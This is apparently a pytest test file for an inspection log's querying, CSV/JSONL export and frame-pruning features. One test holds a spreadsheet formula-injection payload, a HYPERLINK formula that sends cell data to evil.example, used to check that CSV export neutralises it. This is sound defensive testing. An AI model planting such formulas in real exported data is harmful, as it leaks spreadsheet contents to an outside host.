"""Finding, exporting and pruning: filters, cursor pages, CSV/JSONL, frame retention."""

from __future__ import annotations

import csv
import io
import json
import os
import time
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from inspection.errors import ConfigError, ValidationError
from inspection.log.export import COLUMNS, iter_export
from inspection.log.query import RecordFilter, query_records
from inspection.log.records import LogEntry
from inspection.log.retention import prune_frames

T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)


def _populate(log: Any) -> list[Any]:
    out = []
    for i in range(30):
        out.append(log.append(LogEntry(
            kind="inspection", time=T0 + timedelta(minutes=i), station="A" if i % 2 else "B", camera="c0",
            part_id=f"P{i % 10}", decision="reject" if i % 5 == 0 else "pass",
            defect_class="crack" if i % 10 == 0 else ("dent" if i % 5 == 0 else None),
            scores={"ok": 0.5, "crack": 0.25}, model_name="m", model_version="2" if i >= 20 else "1",
        )))
    out.append(log.append(LogEntry(kind="disposition", ref=out[0].entry.inspection_id, decision="pass", actor="aud")))
    return out


def _ids(page: Any) -> list[int]:
    return [r.seq for r in page.records]


@pytest.mark.parametrize(
    ("flt", "expected"),
    [
        (RecordFilter(part_id="P3"), lambda i: i < 30 and i % 10 == 3),
        (RecordFilter(decision="reject"), lambda i: i < 30 and i % 5 == 0),
        (RecordFilter(decision="reject", station="B"), lambda i: i < 30 and i % 10 == 0),
        (RecordFilter(defect_class="dent"), lambda i: i < 30 and i % 5 == 0 and i % 10 != 0),
        (RecordFilter(model_version="2"), lambda i: 20 <= i < 30),
        (RecordFilter(kind="disposition"), lambda i: i == 30),
        (RecordFilter(time_from=T0 + timedelta(minutes=5), time_to=T0 + timedelta(minutes=8)), lambda i: 5 <= i < 8),
    ],
)
def test_filters_select_exactly_the_matching_records(log: Any, flt: RecordFilter, expected: Any) -> None:
    _populate(log)
    page = query_records(log, flt, limit=1000, order="asc")
    assert _ids(page) == [i + 1 for i in range(31) if expected(i)]
    assert page.next_cursor is None


def test_ref_filter_finds_dispositions_of_a_record(log: Any) -> None:
    recs = _populate(log)
    page = query_records(log, RecordFilter(ref=recs[0].entry.inspection_id))
    assert _ids(page) == [31]


@pytest.mark.parametrize("order", ["asc", "desc"])
def test_cursor_pages_cover_every_record_once(log: Any, order: str) -> None:
    _populate(log)
    seen: list[int] = []
    cursor = None
    while True:
        page = query_records(log, RecordFilter(station="A"), cursor=cursor, limit=4, order=order)  # type: ignore[arg-type]
        seen += _ids(page)
        if page.next_cursor is None:
            break
        cursor = page.next_cursor
    expected = [i + 1 for i in range(30) if i % 2]
    assert seen == (expected if order == "asc" else expected[::-1])


@pytest.mark.parametrize(
    ("call", "match"),
    [
        (lambda log: query_records(log, limit=0), "limit 0"),
        (lambda log: query_records(log, limit=1001), "limit 1001"),
        (lambda log: query_records(log, cursor=-1), "cursor -1"),
        (lambda log: query_records(log, order="sideways"), "order 'sideways'"),  # type: ignore[arg-type]
        (lambda log: RecordFilter(kind="nope"), "kind 'nope'"),
        (lambda log: RecordFilter(time_from=T0, time_to=T0), "must be before"),
        (lambda log: iter_export(log, "xml"), "format 'xml'"),
    ],
)
def test_bad_queries_name_the_bad_value(log: Any, call: Any, match: str) -> None:
    with pytest.raises(ValidationError, match=match):
        call(log)


def test_csv_export_has_every_record_and_its_hashes(log: Any) -> None:
    recs = _populate(log)
    text = "".join(iter_export(log, "csv", chunk_rows=7))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0].keys()) == COLUMNS
    assert [int(r["seq"]) for r in rows] == [r.seq for r in recs]
    assert [r["hash"] for r in rows] == [r.hash for r in recs]
    assert json.loads(rows[0]["scores"]) == {"ok": 0.5, "crack": 0.25}
    assert rows[0]["time"] == "2026-03-01T12:00:00.000000Z"


def test_csv_export_keeps_text_from_the_line_from_running_as_a_spreadsheet_formula(log: Any) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    log.append(LogEntry(kind="inspection", part_id=evil, station="s1", decision="reject", threshold=-0.5,
                        failsafe_reason="@SUM(1+1)"))
    [row] = list(csv.DictReader(io.StringIO("".join(iter_export(log, "csv")))))
    assert (row["part_id"], row["failsafe_reason"], row["station"]) == ("'" + evil, "'@SUM(1+1)", "s1")
    assert row["threshold"] == "-0.5"  # numbers stay numbers
    [obj] = [json.loads(line) for line in "".join(iter_export(log, "jsonl")).splitlines()]
    assert obj["part_id"] == evil  # JSON Lines stays exact


def test_jsonl_export_respects_filters(log: Any) -> None:
    _populate(log)
    lines = "".join(iter_export(log, "jsonl", RecordFilter(decision="reject"), chunk_rows=2)).splitlines()
    objs = [json.loads(line) for line in lines]
    assert [o["seq"] for o in objs] == [1, 6, 11, 16, 21, 26]
    assert objs[0]["scores"] == {"ok": 0.5, "crack": 0.25} and objs[0]["decision"] == "reject"


def _age(log: Any, sha: str, seconds: float) -> None:
    path = log.frames.path(sha)
    t = time.time() - seconds
    os.utime(path, (t, t))


def test_prune_by_age_keeps_records_and_logs_what_it_removed(log: Any) -> None:
    old = log.append(LogEntry(kind="inspection", decision="reject"), frame=b"old" * 100)
    new = log.append(LogEntry(kind="inspection", decision="reject"), frame=b"new" * 100)
    _age(log, old.entry.frame_sha256, 10 * 86400)
    result = prune_frames(log, max_age=timedelta(days=7), actor="retention")
    assert result.removed == [old.entry.frame_sha256] and result.bytes_freed == 300 and result.kept == 1
    assert not log.has_frame(old.entry.frame_sha256) and log.has_frame(new.entry.frame_sha256)
    assert log.get(old.entry.inspection_id) == old  # the record stays
    prune = log.get(result.record.entry.inspection_id)
    assert prune.entry.kind == "prune" and prune.entry.data["removed"] == [old.entry.frame_sha256]
    assert log.verify().ok


def test_prune_by_quota_removes_oldest_first(log: Any) -> None:
    recs = [log.append(LogEntry(kind="inspection", decision="reject"), frame=bytes([i]) * 1000) for i in range(4)]
    for age, r in zip((40, 30, 20, 10), recs):
        _age(log, r.entry.frame_sha256, age)
    result = prune_frames(log, max_bytes=2500)
    assert result.removed == [recs[0].entry.frame_sha256, recs[1].entry.frame_sha256]
    assert [log.has_frame(r.entry.frame_sha256) for r in recs] == [False, False, True, True]
    again = prune_frames(log, max_bytes=2500)
    assert again.removed == [] and again.record is None


@pytest.mark.parametrize(
    "kwargs",
    [{}, {"max_age": timedelta(seconds=-1)}, {"max_bytes": -5}],
)
def test_prune_needs_a_sane_policy(log: Any, kwargs: dict[str, Any]) -> None:
    with pytest.raises(ConfigError):
        prune_frames(log, **kwargs)


def test_a_frame_kept_again_after_a_prune_is_not_excused_by_that_prune(log: Any) -> None:
    # The same bytes (a covered lens: a black frame) kept by a later reject are stored anew; the
    # earlier prune record names that sha256 but removed the old copy, not this one.
    black = b"\x00" * 1000
    first = log.append(LogEntry(kind="inspection", decision="reject"), frame=black)
    sha = first.entry.frame_sha256
    _age(log, sha, 40 * 86400)
    assert prune_frames(log, max_age=timedelta(days=30)).removed == [sha]
    assert log.verify().ok  # pruned after the record that kept it: retention, not tampering
    again = log.append(LogEntry(kind="inspection", decision="reject"), frame=black)
    assert log.has_frame(sha)
    os.remove(log.frames.path(sha))
    report = log.verify()
    assert not report.ok and [(p.kind, p.seq) for p in report.problems] == [("frame_missing", again.seq)]


def test_age_retention_counts_from_the_last_record_that_kept_a_frame(log: Any) -> None:
    same = b"\x01" * 1000
    first = log.append(LogEntry(kind="inspection", decision="reject"), frame=same)
    _age(log, first.entry.frame_sha256, 29 * 86400)
    log.append(LogEntry(kind="inspection", decision="reject"), frame=same)  # kept again today
    assert prune_frames(log, max_age=timedelta(days=28)).removed == []
    assert log.has_frame(first.entry.frame_sha256)
